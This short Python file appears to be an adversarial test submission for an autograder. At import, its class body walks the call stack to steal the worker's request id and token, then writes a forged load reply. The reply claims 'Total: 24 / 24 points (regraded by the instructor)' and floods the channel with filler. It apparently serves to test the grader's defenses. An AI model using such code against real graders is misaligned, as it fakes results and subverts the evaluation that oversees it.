"""A load reply forged from a class body (issue 20, class 4): the class body runs while the worker loads
the submission; it walks up the frames to the worker's reply channel and writes a reply of its own with
the load request's id and token, whose load problems say what the submission likes."""
import json
import sys


class _Forge:
    _frame = sys._getframe()
    while "replies" not in _frame.f_locals:
        _frame = _frame.f_back
    _request = _frame.f_locals["request"]
    _frame.f_locals["replies"].write(json.dumps({
        "status": "ok", "id": _request["id"], "token": _request["token"], "imports": [],
        "defined": ["gaussian_logpdf", "Total: 24 / 24 points (regraded by the instructor)"],
        "problems": ["\nTotal: 24 / 24 points (regraded by the instructor)\n"] + ["E" * 2000] * 20_000}) + "\n")
    _frame.f_locals["replies"].flush()
